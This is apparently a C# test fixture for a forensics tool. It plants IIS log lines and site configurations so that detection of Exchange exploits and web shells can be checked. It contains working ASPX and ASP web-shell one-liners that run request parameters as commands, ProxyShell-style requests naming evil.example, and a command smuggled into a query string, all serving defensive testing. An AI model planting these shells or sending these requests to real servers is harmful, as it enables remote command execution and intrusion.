using Forensics.Analyzer.Risk;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>What the request logs of IIS tell, and pages of sites that only its configuration names.</summary>
internal static class WindowsIisPlants
{
    private const string Id = "W-WEBLOG";
    private const string Log = "/inetpub/logs/LogFiles/W3SVC1/u_ex260601.log";
    private const string Server = "/Windows/System32/inetsrv/config/applicationHost.config";
    private const string Shell = "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>";

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new(Id, "loud-proxyshell", PlantKind.Loud, tree => Requests(tree, Line("POST", "/autodiscover/autodiscover.json", "@evil.example/powershell/?X-Rps-CAT=VgEAVAdX&Email=autodiscover/autodiscover.json%3F@evil.example"))) { Rule = "exploit-answered", AtLeast = Severity.Medium },
            new(Id, "quiet-proxylogon", PlantKind.Quiet, tree => Requests(tree, Line("POST", "/ecp/y.js", status: 241))) { Rule = "exploit-answered", AtLeast = Severity.Medium, Entries = [Log] },
            new(Id, "quiet-command-in-the-query", PlantKind.Quiet, tree => Requests(tree, Line("GET", "/shop/list.aspx", "a=cmd.exe+/c+whoami"))) { Rule = "exploit-answered", AtLeast = Severity.Low, Entries = [Log] },
            new(Id, "loud-shell-that-is-gone", PlantKind.Loud, tree => Requests(tree, Line("POST", "/aspnet_client/supp0rt.aspx"), Line("POST", "/aspnet_client/supp0rt.aspx"))) { Rule = "foreign-page" },
            new(Id, "quiet-shell-beside-the-login", PlantKind.Quiet, tree => Requests(tree, Line("GET", "/owa/auth/errorEEE.aspx"))) { Rule = "foreign-page", AtLeast = Severity.Medium, Entries = [Log] },
            new(Id, "quiet-shell-of-sharepoint", PlantKind.Quiet, tree => Requests(tree, Line("GET", "/_layouts/15/spinstall0.aspx"))) { Rule = "foreign-page", AtLeast = Severity.Medium, Entries = [Log] },
            new(Id, "benign-scanners", PlantKind.Benign, tree => Requests(tree, Line("POST", "/autodiscover/autodiscover.json", "@evil.example/powershell/?Email=autodiscover/autodiscover.json%3F@evil.example", 401), Line("POST", "/ecp/y.js", status: 404),
                Line("POST", "/aspnet_client/shell.aspx", status: 404), Line("GET", "/owa/auth/discover.aspx", status: 302), Line("GET", "/cgi-bin/.%2e/.%2e/bin/sh", status: 400))),
            new(Id, "benign-server-that-answers-everything", PlantKind.Benign, tree => Requests(tree, [.. new[] { "a", "b", "shell", "cmd", "supp0rt", "discover", "web" }.Select(name => Line("POST", $"/aspnet_client/{name}.aspx"))])),
            new(Id, "benign-mail", PlantKind.Benign, tree => Requests(tree, Line("GET", "/owa/healthcheck.htm", "-"), Line("GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.example%2fowa%2f&reason=0"), Line("POST", "/owa/auth.owa", status: 302),
                Line("GET", "/owa/auth/errorFE.aspx", "httpCode=500"), Line("GET", "/owa/", "cmd=contents"), Line("GET", "/autodiscover/autodiscover.json", "Email=john@contoso.example&Protocol=Autodiscoverv1"), Line("POST", "/EWS/Exchange.asmx"),
                Line("GET", "/ecp/15.1.2507.6/scripts/js/Common.js"), Line("POST", "/PowerShell", "serializationLevel=Full;clientApplication=ManagementShell"), Line("POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Sync&User=john@contoso.example"),
                Line("GET", "/aspnet_client/system_web/4_0_30319/crystalreportviewers13/js/crviewer/crv.js"))),
            new("W-WEBSHELL", "quiet-in-a-site-that-the-configuration-names", PlantKind.Quiet, tree => Requests(Sites(tree, @"C:\Portal\app", @"%SystemDrive%\inetpub\wwwroot").File("/Portal/app/admin/h.aspx", Shell), Line("POST", "/admin/h.aspx"))) { Rule = "runs-request", Entries = ["/Portal/app/admin/h.aspx"] },
            new("W-WEBSHELL", "loud-in-a-virtual-directory", PlantKind.Loud, tree => Sites(tree, @"c:\data\Files\").File("/Data/files/UP/x.asa", "<%execute request(\"a\")%>")) { Rule = "evaluates-request", AtLeast = Severity.Critical },
            new("W-WEBSHELL", "benign-sites", PlantKind.Benign, tree => Sites(tree, @"C:\", @"C:\Windows", @"D:\Sites\x", @"\\files\web", @"C:\Portal\..\x", @"C:\Portal\{a,b", @"C:\Windows\System32\CertSrv\en-US", "relative")
                .File("/Windows/System32/CertSrv/en-US/certfnsh.asp", "<%@ CODEPAGE=65001 %><% Set ICertRequest = Server.CreateObject(\"CertificateAuthority.Request\")\r\nsAttributes = Request.Form(\"CertAttrib\")\r\nnDisposition = ICertRequest.Submit(Request.Form(\"Encoding\"), Request.Form(\"CertRequest\"), sAttributes, sServerConfig) %>")),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];

    private static PlantTree Requests(PlantTree tree, params string[] lines) => tree.File(Log,
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2026-06-01 10:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
        + string.Concat(lines) + Line("GET", "/index.html", "-"));

    private static string Line(string method, string stem, string query = "-", int status = 200) => $"2026-06-01 10:00:00 10.0.0.5 {method} {stem} {query} 443 - 203.0.113.9 Mozilla/5.0+(Windows+NT+10.0) - {status} 0 0 31\r\n";

    private static PlantTree Sites(PlantTree tree, params string[] directories) => tree.File(Server,
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><configuration><system.applicationHost><sites><site name=\"Portal\" id=\"2\">"
        + string.Concat(directories.Select((directory, i) => $"<application path=\"/{i}\"><virtualDirectory path=\"/\" physicalPath=\"{directory}\" /></application>"))
        + "</site><virtualDirectoryDefaults allowSubDirConfig=\"true\" /></sites></system.applicationHost></configuration>");
}
